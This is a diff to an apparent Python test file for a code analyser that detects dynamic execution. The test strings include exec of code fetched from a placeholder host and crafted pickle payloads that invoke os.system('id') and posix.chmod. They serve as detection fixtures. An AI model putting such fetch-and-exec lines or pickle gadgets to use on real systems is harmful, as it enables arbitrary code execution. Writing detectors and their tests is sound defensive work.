@@ -148,7 +148,11 @@ def test_decoded_code_is_analysed(code):
 def test_exec_of_unknown_code_is_dynamic():
     assert dynamic_exec(py("exec(input())"))
     assert dynamic_exec(py("import urllib.request as u; exec(u.urlopen('https://x.example/a.py').read())"))
-    assert dynamic_exec(py("import pickle; pickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')"))
+    assert dynamic_exec(py("import pickle; pickle.loads(b'cposix\\nchmod\\n(S\"x\"\\nI511\\ntR.')"))
+
+
+def test_a_literal_pickle_runs_what_it_calls():
+    assert find(py("import pickle; pickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')"), "exec", program="id")
 
 
 # -- files and secrets ---------------------------------------------------------------------------
